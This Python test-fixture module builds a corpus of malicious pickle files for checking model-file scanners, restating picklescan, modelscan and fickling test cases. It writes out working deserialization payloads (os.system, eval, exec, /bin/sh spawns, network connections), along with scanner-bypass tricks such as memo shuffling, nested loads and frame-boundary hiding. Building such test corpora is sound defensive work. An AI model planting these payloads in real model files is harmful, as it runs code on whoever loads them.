"""The peers' public test suites, as fixtures of the evasion corpus.

- picklescan: its committed data files are copied here unchanged
  (peers/picklescan/, see README); the verdict each must get is the one
  picklescan's own tests expect (dangerous -> malicious, safe -> benign).
- modelscan and fickling: their test pickles are built by code in their
  test suites; the cases below are our own re-statement of the same shapes
  (their code is not copied).  Each takes the corpus Ctx, so the self-test
  can run a marker variant when the shape is executable.
"""
import os
import struct

import pk
from pk import glob, sglobal, ustr, call, tup, whole, const, proto, STOP, REDUCE

HERE = os.path.dirname(os.path.abspath(__file__))

# picklescan tests/data + tests/data2: files its tests expect safe (no
# dangerous global).  Object arrays are listed safe there; here they may be
# suspicious, never malicious.
PICKLESCAN_SAFE = {
    'benign0_v0.pkl', 'benign0_v3.pkl', 'benign0_v4.pkl', 'new_pytorch_model.bin',
    'not_a_pickle.bin', 'bad_pytorch.pt', 'benign_password_protected.zip',
    'int_array.npy', 'int_arrays.npz', 'int_arrays_compressed.npz',
    'object_array.npy', 'object_arrays.npz', 'object_arrays_compressed.npz',
}


def _static(path):
    def b(ctx):
        with open(path, 'rb') as f:
            return f.read()
    return b


def register(fx, Ctx):
    d = os.path.join(HERE, 'picklescan')
    for n in sorted(os.listdir(d)):
        v = 'benign' if n in PICKLESCAN_SAFE else 'malicious'
        fx('peer-picklescan-' + n, 'peer-picklescan', [],
           "picklescan tests/data*: expected %s there (file copied, its "
           "payload is real, so it is never loaded here)" %
           ('safe' if v == 'benign' else 'dangerous'),
           twin=False, verdict=v)(_static(os.path.join(d, n)))
    _modelscan(fx)
    _fickling(fx)


def _m(fx, name, loaders, note, verdict='malicious'):
    return fx('peer-modelscan-' + name, 'peer-modelscan', loaders,
              note, twin=False, verdict=verdict)


P = ['pickle.load', 'pickle.loads', 'pickle._Unpickler']


def _modelscan(fx):
    for v in (0, 3, 4):
        _m(fx, 'benign0_v%d.pkl' % v, [], 'list of strings', 'benign')(
            (lambda v: lambda c: _dumps_list(v))(v))
        _m(fx, 'malicious1_v%d.pkl' % v, P, 'builtins.eval(code)')(
            (lambda v: lambda c: _reduce1(v, 'builtins', 'eval', c.code))(v))
        _m(fx, 'malicious2_v%d.pkl' % v, P, 'os.system(cmd)')(
            (lambda v: lambda c: _reduce1(v, 'posix', 'system', c.cmd))(v))
    _m(fx, 'malicious0.pkl', [], 'Sour Pickles: globals/compile/eval/getattr/apply '
       '(Python 2 apply, so it fails on 3 after calling globals and compile)')(
        lambda c: (b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=1\'\n'
                   b"S''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0"
                   b"c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0"
                   b"c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n."))
    _m(fx, 'malicious3.pkl', [], 'http.client.HTTPSConnection at protocol 0 '
       '(network; written as httplib by the Python 2 mapping)')(
        lambda c: b'chttp.client\nHTTPSConnection\np0\n(Vgithub.com\np1\ntp2\nRp3\n.')
    _m(fx, 'malicious4.pickle', [], 'requests.get(url) (requests may be absent)')(
        lambda c: whole(call(sglobal('requests.api', 'get'), ustr('https://example.invalid')), 4))
    _m(fx, 'malicious5.pickle', [], 'aiohttp.ClientSession()')(
        lambda c: whole(call(sglobal('aiohttp.client', 'ClientSession')), 4))
    _m(fx, 'malicious6.pkl', [], 'benign pickle followed by a requests.get pickle')(
        lambda c: _dumps_list(4) + whole(call(sglobal('requests.api', 'get'),
                                              ustr('https://example.invalid')), 4))
    _m(fx, 'malicious7.pkl', [], 'socket.create_connection((host, port))')(
        lambda c: whole(call(sglobal('socket', 'create_connection'),
                             tup(ustr('127.0.0.1'), pk.integer(9))), 4))
    _m(fx, 'malicious8.pkl', P, 'subprocess.run([...])')(
        lambda c: whole(call(sglobal('subprocess', 'run'),
                             const(['touch', c.marker])), 4))
    _m(fx, 'malicious9.pkl', [], 'sys.exit(0)')(
        lambda c: whole(call(sglobal('sys', 'exit'), pk.integer(0)), 4))
    _m(fx, 'malicious10.pkl', P, 'INST __builtin__ exec')(
        lambda c: b'(S' + repr(c.code).encode() + b'\ni__builtin__\nexec\n.')
    _m(fx, 'malicious11.pkl', P, 'memo shuffle: module and name pushed as '
       'torch/LongStorage but STACK_GLOBAL gets os/system from the memo')(
        lambda c: b''.join([b'Vos\n', b'p2\n', b'0', b'Vsystem\n', b'p3\n', b'0',
                            b'Vtorch\n', b'p0\n', b'0', b'VLongStorage\n', b'p1\n', b'0',
                            b'g2\n', b'g3\n', b'\x93', b'(', b'V' + c.cmd.encode() + b'\n',
                            b't', b'R', b'.']))
    _m(fx, 'malicious12.pkl', P, 'pickle.loads of an inner pickle that '
       'calls os.system')(lambda c: _nested_loads(c))
    _m(fx, 'malicious13.pkl', P, "GLOBAL 'builtins eval.__call__' (dotted)")(
        lambda c: proto(5) + b'cbuiltins\neval.__call__\n' + b'V' + c.code.encode()
        + b'\n' + b'\x85R.')
    _m(fx, 'malicious14.pkl', P, 'malicious11 with trailing whitespace after STOP')(
        lambda c: b''.join([b'Vos\n', b'p2\n', b'0', b'Vsystem\n', b'p3\n', b'0',
                            b'Vtorch\n', b'p0\n', b'0', b'VLongStorage\n', b'p1\n', b'0',
                            b'g2\n', b'g3\n', b'\x93', b'(', b'V' + c.cmd.encode() + b'\n',
                            b't', b'R', b'.', b'\n\n\t\t']))
    _m(fx, 'malicious15.pkl', P, 'bdb.Bdb.run(Bdb(), code)')(
        lambda c: whole(call(sglobal('bdb', 'Bdb.run'), call(sglobal('bdb', 'Bdb')),
                             ustr(c.code)), 4))
    _m(fx, 'malicious1.zip', [], 'zip with data.pkl = eval pickle')(
        lambda c: _zip1(c))


def _dumps_list(v):
    if v == 0:
        return b'(lp0\nVa\np1\naVb\np2\naVc\np3\na.'
    return whole(const(['a', 'b', 'c']), v)


def _reduce1(v, mod, name, arg):
    if v == 0:
        m = '__builtin__' if mod == 'builtins' else mod
        return ('c%s\n%s\np0\n(V%s\np1\ntp2\nRp3\n.' % (m, name, arg)).encode()
    if v < 4:
        return whole(call(glob(mod, name), ustr(arg)), v)
    return whole(call(sglobal(mod, name), ustr(arg)), 4)


def _nested_loads(c):
    inner = (b'\x80\x05' + b'cos\nsystem\n' + b'V' + c.cmd.encode() + b'\n'
             + b'\x85R.')
    return (b'\x80\x05' + b'cpickle\nloads\n' + b'B' + struct.pack('<I', len(inner))
            + inner + b'\x85R0N.')


def _zip1(c):
    import zipfile
    import io
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w') as z:
        zi = zipfile.ZipInfo('data.pkl', (2024, 1, 1, 0, 0, 0))
        z.writestr(zi, _reduce1(4, 'builtins', 'eval', c.code))
    return b.getvalue()


# fickling test/test_bypasses.py and its unsafe-module coverage tests.
FICKLING_ML_UNSAFE_MODULES = ['torch.hub', 'torch._dynamo', 'torch._inductor',
                              'torch.jit', 'torch.compile', 'numpy.f2py',
                              'numpy.distutils']
FICKLING_ML_UNSAFE_IMPORTS = [
    ('torch', 'load'), ('torch', 'compile'), ('torch.storage', '_load_from_bytes'),
    ('torch.utils._config_module', 'ConfigModule'),
    ('torch.distributed.elastic.rendezvous.api', 'basichandlers'),
    ('numpy.testing._private.utils', 'runstring'), ('_io', 'FileIO'), ('_io', 'open'),
    ('io', 'FileIO'), ('io', 'open')]


def _f(fx, name, loaders, note, verdict='malicious'):
    return fx('peer-fickling-' + name, 'peer-fickling', loaders, note,
              twin=False, verdict=verdict)


def _sg_call(mod, name, *args, p=4):
    return whole(call(sglobal(mod, name), *args), p)


def _fickling(fx):
    _f(fx, 'pty-spawn.pkl', [], 'pty.spawn(argv)')(
        lambda c: _sg_call('pty', 'spawn', ustr('true')))
    _f(fx, 'marshal-types-functiontype.pkl', [], 'types.FunctionType('
       'marshal.loads(code bytes), {})')(
        lambda c: _sg_call('types', 'FunctionType',
                           call(sglobal('marshal', 'loads'), pk.byts(b'\xe3')),
                           pk.EMPTY_DICT))
    _f(fx, 'runpy-run-path.pkl', [], 'runpy.run_path(path)')(
        lambda c: _sg_call('runpy', 'run_path', ustr(c.marker + '.py')))
    _f(fx, 'cprofile-run.pkl', P, 'cProfile.run(code)')(
        lambda c: _sg_call('cProfile', 'run', ustr(c.code)))
    _f(fx, 'getattr-ctypes-cdll.pkl', [], 'getattr(ctypes.CDLL(lib), "system")')(
        lambda c: _sg_call('builtins', 'getattr',
                           call(sglobal('ctypes', 'CDLL'), ustr('libc.so.6')),
                           ustr('system')))
    _f(fx, 'pydoc-locate.pkl', P, 'pydoc.locate("os.system")(cmd)')(
        lambda c: whole(call(sglobal('pydoc', 'locate'), ustr('os.system'))
                        + tup(ustr(c.cmd)) + REDUCE, 4))
    _f(fx, 'getattr-importlib-import-module.pkl', P,
       'getattr(importlib.import_module("os"), "system")(cmd)')(
        lambda c: whole(call(sglobal('builtins', 'getattr'),
                             call(sglobal('importlib', 'import_module'), ustr('os')),
                             ustr('system')) + tup(ustr(c.cmd)) + REDUCE, 4))
    _f(fx, 'code-interactive-interpreter.pkl', P,
       'getattr(code.InteractiveInterpreter(), "runsource")(src)')(
        lambda c: whole(call(sglobal('builtins', 'getattr'),
                             call(sglobal('code', 'InteractiveInterpreter')),
                             ustr('runsource')) + tup(ustr(c.code)) + REDUCE, 4))
    _f(fx, 'multiprocessing-spawnv-passfds.pkl', [],
       'multiprocessing.util.spawnv_passfds(b"/bin/sh", [...], ())')(
        lambda c: _sg_call('multiprocessing.util', 'spawnv_passfds', pk.byts(b'/bin/sh'),
                           const([b'/bin/sh', b'-c', c.cmd.encode()]), pk.EMPTY_TUPLE))
    _f(fx, 'builtins-import-getattr.pkl', P, '__import__("os") then getattr system')(
        lambda c: (b"cbuiltins\n__import__\n(S'os'\ntRp0\n0cbuiltins\ngetattr\n"
                   b"(g0\nS'system'\ntRp1\n0g1\n(S" + repr(c.cmd).encode() + b"\ntR."))
    _f(fx, 'operator-methodcaller.pkl', P, '_operator.methodcaller("system", cmd)('
       '__import__("os"))')(
        lambda c: (b'\x80\x04' + call(sglobal('_operator', 'methodcaller'), ustr('system'),
                                      ustr(c.cmd))
                   + tup(call(sglobal('builtins', '__import__'), ustr('os'))) + b'R.'))
    _f(fx, 'distutils-write-file.pkl', [], 'distutils.file_util.write_file')(
        lambda c: _sg_call('distutils.file_util', 'write_file', ustr(c.marker),
                           const(['x'])))
    _f(fx, 'io-fileio.pkl', P, '_io.FileIO(path, "w")')(
        lambda c: _sg_call('_io', 'FileIO', ustr(c.marker), ustr('w')))
    _f(fx, 'numpy-f2py-getlincoef.pkl', [], 'numpy.f2py.crackfortran.getlincoef(expr)')(
        lambda c: _sg_call('numpy.f2py.crackfortran', 'getlincoef',
                           ustr('__import__("os").system("true")'), pk.EMPTY_DICT))
    for mod, cls, port in (('smtplib', 'SMTP', 25), ('imaplib', 'IMAP4', 143),
                           ('ftplib', 'FTP', 21), ('poplib', 'POP3', 110),
                           ('telnetlib', 'Telnet', 23), ('nntplib', 'NNTP', 119)):
        _f(fx, 'ssrf-%s.pkl' % mod, [], '%s.%s(host, port) (network)' % (mod, cls))(
            (lambda mod, cls, port: lambda c: whole(
                call(glob(mod, cls), ustr('127.0.0.1'), pk.integer(port))
                + pk.EMPTY_DICT + pk.BUILD, 4))(mod, cls, port))
    _f(fx, 'asyncio-subprocess-transport.pkl', [], 'asyncio.unix_events.'
       '_UnixSubprocessTransport._start (dotted)')(
        lambda c: _sg_call('asyncio.unix_events', '_UnixSubprocessTransport._start',
                           pk.EMPTY_DICT, ustr('true'), pk.NEWTRUE, pk.NONE, pk.NONE,
                           pk.NONE, pk.integer(0)))
    _f(fx, 'obj-pop-call.pkl', [], 'OBJ of smtplib.SMTP whose result is POPped')(
        lambda c: proto(4) + pk.MARK + sglobal('smtplib', 'SMTP') + ustr('127.0.0.1')
        + b'o0N.')
    _f(fx, 'uuid-get-command-stdout.pkl', P, 'uuid._get_command_stdout(cmd, arg)')(
        lambda c: _sg_call('uuid', '_get_command_stdout', ustr('touch'), ustr(c.marker)))
    _f(fx, 'aix-support-read-cmd-output.pkl', [], '_aix_support._read_cmd_output')(
        lambda c: _sg_call('_aix_support', '_read_cmd_output', ustr(c.cmd)))
    _f(fx, 'osx-support-find-build-tool.pkl', [], '_osx_support._find_build_tool')(
        lambda c: _sg_call('_osx_support', '_find_build_tool', ustr('x; true #')))
    _f(fx, 'pathlib-os-system.pkl', P, "pathlib + 'os.system'")(
        lambda c: _sg_call('pathlib', 'os.system', ustr(c.cmd)))
    _f(fx, 'ast-parse-import.pkl', [], 'ast.parse imported (outside the ML '
       'allowlist; fickling flags it, here it may be suspicious)',
       verdict='benign')(lambda c: whole(sglobal('ast', 'parse'), 4))
    for mod in ('_interpreters', '_xxsubinterpreters'):
        _f(fx, 'subinterpreter-%s.pkl' % mod, [], '%s.create()' % mod)(
            (lambda mod: lambda c: _sg_call(mod, 'create'))(mod))
    _f(fx, 'future-dotted-ssl.pkl', [], "__future__ + '_ssl.RAND_bytes' "
       '(dotted escape from an allowed module)')(
        lambda c: whole(sglobal('__future__', '_ssl.RAND_bytes'), 4))
    _f(fx, 'frame-boundary-divergence.pkl', ['pickle.load'],
       'BINBYTES declares more bytes than its FRAME after a 128 KiB prefix')(
        lambda c: _frame_div(c))
    for desc, body, n in (
            ('binbytes', b'B' + struct.pack('<I', 20) + b'A' * 20, 5),
            ('short-binunicode', b'\x8c\x14' + b'A' * 20, 3),
            ('global-module', b'cmacos\nsystem\n', 4),
            ('global-attr', b'cos\nsystem\n', 7),
            ('unicode', b'Vhello world\n', 5),
            ('binint', b'J' + struct.pack('<i', 7), 2)):
        _f(fx, 'frame-straddle-%s.pkl' % desc, [], 'an opcode straddling the '
           'end of its frame (fickling expects it flagged)')(
            (lambda body, n: lambda c: proto(5) + pk.FRAME + struct.pack('<Q', n)
             + body + STOP)(body, n))
    _f(fx, 'frame-inside-frame.pkl', [], 'FRAME opened inside a frame')(
        lambda c: proto(5) + pk.FRAME + struct.pack('<Q', 30) + pk.NONE + pk.FRAME
        + struct.pack('<Q', 2) + pk.NONE + STOP)
    for mod in FICKLING_ML_UNSAFE_MODULES:
        _f(fx, 'unsafe-module-%s.pkl' % mod, [], '%s.dangerous() (a name under an '
           'unsafe ML module)' % mod)(
            (lambda mod: lambda c: whole(call(glob(mod, 'dangerous')), 4))(mod))
    for mod, fn in FICKLING_ML_UNSAFE_IMPORTS:
        _f(fx, 'unsafe-import-%s.%s.pkl' % (mod, fn), [], '%s.%s() called with no '
           'arguments' % (mod, fn))(
            (lambda mod, fn: lambda c: whole(call(glob(mod, fn)), 4))(mod, fn))
    for desc, obj in (('list', [1, 2, 3, 4]), ('nested', {'a': [1, 2, {'b': (3, 4)}]})):
        for p in (2, 4, 5):
            _f(fx, 'well-formed-%s-p%d.pkl' % (desc, p), [], 'plain container',
               verdict='benign')((lambda obj, p: lambda c: _dumps(obj, p))(obj, p))


def _dumps(obj, p):
    import pickle
    return pickle.dumps(obj, protocol=p)


def _frame_div(c):
    hidden = b'cposix\nsystem\n' + b'V' + c.cmd.encode() + b'\n' + b'\x85R'
    return (b'\x80\x05' + b'N' + b'V' + b'a' * (8192 * 16 - 17) + b'\n' + b'0' + b'('
            + b'\x95' + struct.pack('<Q', 2) + b'B' + b'\x07\x01\x00\x00' + b'\x00\x00'
            + (hidden + b'(').ljust(256 + 5, b'N') + b'1' + b'.')
